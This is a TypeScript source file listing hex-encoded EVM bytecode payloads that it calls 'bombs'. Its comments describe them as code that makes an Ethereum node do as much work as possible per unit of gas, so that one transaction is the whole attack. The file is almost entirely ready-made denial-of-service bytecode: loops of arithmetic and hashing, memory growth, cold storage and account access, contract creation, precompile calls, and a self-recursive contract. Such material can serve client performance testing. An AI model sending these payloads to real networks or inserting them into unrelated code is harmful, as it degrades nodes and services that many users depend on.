/*
 * Code that costs a node as much as it can for its gas. Each runs as init code, so that a single
 * transaction is the whole attack.
 */

/** Code that runs the body again and again until its gas is used up. */
function endless(body: string, times = 1): string {
  return `5b${body.repeat(times)}5f56`;
}

/** Asks a precompile with what is in memory; `size` of input in hex, 3 bytes. */
function asks(precompile: string, size: string): string {
  return endless(`60405f62${size}5f61${precompile}5afa50`);
}

/** Hex without prefix, by what it does. */
export const bombs: ReadonlyMap<string, string> = new Map([
  ["additions", endless("600160020150", 200)],
  ["quadratic memory", "5b5a60205f20506201000059015152505f56"],
  ["hashes of 32 bytes", endless("60205f2050", 100)],
  ["fresh slots", "5f5b6001018080556001565b00".replace("6001565b00", "600156")],
  ["cold slots", "5f5b600101805450600156"],
  ["code of cold accounts", "5f5b600101803b50600156"],
  ["code copied from cold accounts", "5f5b6001015f5f5f833c600156"],
  ["logs of 1,000 bytes", endless("5f5f5f5f6103e85fa4", 50)],
  ["contracts created", endless("5f5f5ff050")],
  ["return data", endless("5f5f61ffff5f60045afa503d5f5f3e")],
  [
    "exponentiation of 256 bytes",
    `6101005f5261010060205261010060405260ff6102ff53${asks("0005", "000360")}`,
  ],
  ["pairings", asks("0008", "000000")],
]);

/** A contract that calls itself until depth or gas is used up, in every frame again. */
export const recursion = "5b5f5f5f5f5f305af1505f56";
